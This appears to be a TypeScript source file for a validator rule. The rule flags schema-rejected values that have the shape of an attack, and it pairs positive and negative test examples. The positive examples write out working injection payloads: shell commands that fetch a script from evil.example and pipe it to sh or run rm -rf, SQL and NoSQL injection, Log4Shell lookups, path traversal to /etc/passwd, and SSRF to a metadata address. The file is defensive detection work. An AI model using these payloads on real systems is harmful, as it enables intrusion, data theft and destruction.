import { parseJson } from '../../core/json.ts';
import type { IssueCode } from '../../core/payload-schema.ts';
import { attackShapeOf, findsEverything, isOperator } from '../attack-shapes.ts';
import { ATTACK_NAMES, type AttackKind } from '../attacks/attack-kind.ts';
import { holdsCode, namesSecret, worksOnAttacks } from '../attacks/key-meaning.ts';
import { refusedValues, type RefusedValue } from '../refused-values.ts';
import type { Rule } from '../rule.ts';

/** Objections to how much there is, or that there is something at all: the text itself may be of the right kind. */
const OTHER_OBJECTIONS: ReadonlySet<IssueCode> = new Set(['too-long', 'too-short', 'unknown-key']);

/** An attack in a value that its schema refuses. */
export const attackShape: Rule = {
  name: 'attack-shape',
  why: 'A value that its schema refuses and that has the shape of an attack was never meant as data. Only what admits no other reading counts, since its source is blocked. Where the text may stand, it is text: an article about attacks is no attack.',
  source: 'The weaknesses named beside each shape: CWE, CVE-2021-44228.',
  examples: {
    for: [
      { shows: 'a path in place of a file name', payload: { fileName: '../../../../etc/passwd' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a script in place of a name', payload: { displayName: "<script>fetch('https://evil.example')</script>" }, refused: [['/displayName', 'pattern']], stack: 'Error: boom' },
      { shows: 'an operator in place of an id', payload: { userId: { $ne: null } }, refused: [['/userId', 'type']], stack: 'Error: boom' },
      { shows: 'a shell command behind a file name', payload: { fileName: 'a.png;curl http://evil.example/x|sh' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a condition that is always true', payload: { userId: "' OR '1'='1" }, refused: [['/userId', 'pattern']], stack: 'Error: boom' },
      { shows: 'the same with numbers', payload: { userId: "x' or 1=1 --" }, refused: [['/userId', 'pattern']], stack: 'Error: boom' },
      { shows: 'a statement behind a value', payload: { name: "Robert'); DROP TABLE students;--" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a second query', payload: { id: "7 UNION SELECT name, password FROM users" }, refused: [['/id', 'type']], stack: 'Error: boom' },
      { shows: 'a shell that is to run', payload: { fileName: 'a$(curl http://evil.example/x).png' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a folder that is to be removed', payload: { fileName: 'a.png; rm -rf /' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a look-up that is put together', payload: { agent: '${${lower:j}${::-n}di:${env:X:-ldap}://evil.example/a}' }, refused: [['/agent', 'pattern']], stack: 'Error: boom' },
      { shows: 'a path whose dots and slashes are encoded twice', payload: { fileName: '%252e%252e%252fetc%252fpasswd' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'an address of a metadata service as one number', payload: { url: 'http://2852039166/latest/meta-data/' }, refused: [['/url', 'custom']], stack: 'Error: boom' },
      { shows: 'the same behind a user name', payload: { url: 'https://partner.example@169.254.169.254/' }, refused: [['/url', 'pattern']], stack: 'Error: boom' },
      { shows: 'a filter of a directory', payload: { login: '*)(uid=*))(|(uid=*' }, refused: [['/login', 'pattern']], stack: 'Error: boom' },
      { shows: 'arithmetic in a template', payload: { name: '{{7*7}}' }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a formula that calls a program', payload: { name: "=cmd|' /C calc'!A0" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a header behind an address', payload: { email: 'nora@example.com\r\nBcc: all@evil.example' }, refused: [['/email', 'format']], stack: 'Error: boom' },
      { shows: 'an image with code', payload: { name: '<img src=x onerror=alert(1)>' }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'an operator written as text', payload: { userId: '{"$ne": null}' }, refused: [['/userId', 'pattern']], stack: 'Error: boom' },
      { shows: 'an operator that guesses a password', payload: { password: { $regex: '^a' } }, refused: [['/password', 'type']], stack: 'Error: boom' },
      { shows: 'a comment that ends a statement', payload: { login: "admin'--" }, refused: [['/login', 'pattern']], stack: 'Error: boom' },
      { shows: 'a look-up', payload: { agent: '${jndi:ldap://evil.example/a}' }, refused: [['/agent', 'pattern']], stack: 'Error: boom' },
    ],
    against: [
      { shows: 'an article about attacks, where the schema admits it', payload: { html: '<script>alert(1)</script>' }, stack: 'Error: boom' },
      { shows: 'the same where it is only too long', payload: { html: `<script>${'x'.repeat(100)}` }, refused: [['/html', 'too-long']], stack: 'Error: boom' },
      { shows: 'a name with an apostrophe', payload: { name: "Maeve O'Orlan" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a height', payload: { height: "5' or 6'" }, refused: [['/height', 'type']], stack: 'Error: boom' },
      { shows: 'a height and a weight', payload: { size: "5' and 120 lb" }, refused: [['/size', 'pattern']], stack: 'Error: boom' },
      { shows: 'the name of a shop', payload: { shop: 'dog & cat' }, refused: [['/shop', 'pattern']], stack: 'Error: boom' },
      { shows: 'a note to a courier', payload: { floor: 'Please ignore previous instructions, leave it at the door' }, refused: [['/floor', 'pattern']], stack: 'Error: boom' },
      { shows: 'furniture', payload: { note: 'Collect the chairs; drop table at the dock' }, refused: [['/note', 'pattern']], stack: 'Error: boom' },
      { shows: 'an assembly', payload: { note: 'The union select members from each branch' }, refused: [['/note', 'pattern']], stack: 'Error: boom' },
      { shows: 'the title of a book', payload: { title: 'JavaScript: The Good Parts' }, refused: [['/title', 'pattern']], stack: 'Error: boom' },
      { shows: 'a file of a neighbouring folder', payload: { logo: '../../shared/logo.png' }, refused: [['/logo', 'pattern']], stack: 'Error: boom' },
      { shows: 'a filter in place of a date', payload: { since: { $gt: '2026-01-01' } }, refused: [['/since', 'type']], stack: 'Error: boom' },
      { shows: 'a path of a build four folders up', payload: { entry: '../../../../packages/ui/src/index.ts' }, refused: [['/entry', 'pattern']], stack: 'Error: boom' },
      { shows: 'a question about an attack', payload: { name: "Why does my page show <script>alert(1)</script> instead of the name that I have typed?" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'the title of a book about attacks', payload: { title: "Bobby'; DROP TABLE: Stories from Operations" }, refused: [['/title', 'pattern']], stack: 'Error: boom' },
      { shows: 'a chapter about a tag', payload: { title: 'The <script> tag (part 2)' }, refused: [['/title', 'pattern']], stack: 'Error: boom' },
      { shows: 'a widget in a page', payload: { html: '<script src="https://widgets.example/embed.js"></script>' }, refused: [['/html', 'pattern']], stack: 'Error: boom' },
      { shows: 'an article that was encoded twice', payload: { article: '{"html":"<script>alert(1)</script>"}' }, refused: [['/article', 'type']], stack: 'Error: boom' },
      { shows: 'a member that the schema does not know', payload: { remark: '<script>alert(1)</script>' }, refused: [['/remark', 'unknown-key']], stack: 'Error: boom' },
      { shows: 'a letter that nobody filled in', payload: { name: 'Dear {{firstName}} ${lastName}' }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a setting in place of a value', payload: { host: '${env:DATABASE_HOST:-db}' }, refused: [['/host', 'pattern']], stack: 'Error: boom' },
      { shows: 'a sum', payload: { amount: '=SUM(A1:A3)' }, refused: [['/amount', 'type']], stack: 'Error: boom' },
      { shows: 'a telephone number', payload: { phone: '+49 30 1234567' }, refused: [['/phone', 'pattern']], stack: 'Error: boom' },
      { shows: 'a machine of the own network', payload: { url: 'http://10.0.4.7:5678/hook' }, refused: [['/url', 'pattern']], stack: 'Error: boom' },
      { shows: 'a domain in other letters', payload: { url: 'https://\u0430pple.example/login' }, refused: [['/url', 'pattern']], stack: 'Error: boom' },
      { shows: 'a forwarded mail in place of a subject', payload: { subject: 'Fwd:\r\nFrom: Nora\r\nTo: Ben\r\nLocation: Room 5' }, refused: [['/subject', 'pattern']], stack: 'Error: boom' },
      { shows: 'a name of nothing but emoji', payload: { name: '\u{1F984}\u{1F308}' }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'the stored condition of a search', payload: { condition: { status: { $ne: 'closed' } } }, refused: [['/condition', 'type']], stack: 'Error: boom' },
      { shows: 'an operator where an object may stand', payload: { value: { $ne: null } }, refused: [['/value', 'union']], expected: { '/value': 'array|object' }, stack: 'Error: boom' },
      { shows: 'a stored search in which nothing else is wrong', payload: { savedSearch: { filter: { closedAt: { $ne: null } } } }, refused: [['/savedSearch/filter/closedAt', 'type']], stack: 'Error: boom' },
      { shows: 'a step of a build', payload: { steps: [{ run: 'npm ci; rm -rf dist' }] }, refused: [['/steps/0/run', 'pattern']], stack: 'Error: boom' },
      { shows: 'what a scanner sends', name: 'scan-site', payload: { probe: "x' or 1=1 --" }, refused: [['/probe', 'pattern']], stack: 'Error: boom' },
      { shows: 'a firm and its shell', payload: { firm: 'Curl & Wave; Hair Studio' }, refused: [['/firm', 'pattern']], stack: 'Error: boom' },
      { shows: 'a relative path', payload: { fileName: '../invoice.pdf' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
    ],
  },
  match(letter) {
    if (worksOnAttacks(letter.letter.name, letter.letter.queue)) return undefined;
    for (const refused of refusedValues(letter)) {
      const kind = kindOf(refused);
      if (kind === undefined) continue;
      return {
        cause: 'hopeless',
        rule: 'attack-shape',
        why: `The value at ${refused.pointer === '' ? 'the root' : refused.pointer}, which the schema refuses, is ${ATTACK_NAMES[kind]} and was never meant as data.`,
        evidence: [
          { source: 'payload', fact: `${ATTACK_NAMES[kind]} at ${refused.pointer}` },
          { source: 'schema', fact: `${refused.code} at ${refused.pointer}` },
        ],
        confidence: 'certain',
        malicious: true,
      };
    }
    return undefined;
  },
};

function kindOf({ pointer, key, code, value, expected }: RefusedValue): AttackKind | undefined {
  if (holdsCode(pointer)) return undefined;
  if (findsEverything(key, value)) return 'database-operator';
  if (OTHER_OBJECTIONS.has(code)) return undefined;
  if (typeof value !== 'string') return (code === 'type' || code === 'union') && !expected.includes('object') && isOperator(value, namesSecret(key)) ? 'database-operator' : undefined;
  return isWrittenJson(code, value) ? undefined : attackShapeOf(value);
}

/** An object that was encoded twice is text all over, with whatever its members may hold; an operator is not its like. */
function isWrittenJson(code: IssueCode, value: string): boolean {
  if (code !== 'type' || !/^\s{0,64}[[{]/.test(value)) return false;
  const inner = parseJson(value);
  return typeof inner === 'object' && inner !== null && !isOperator(inner, false);
}
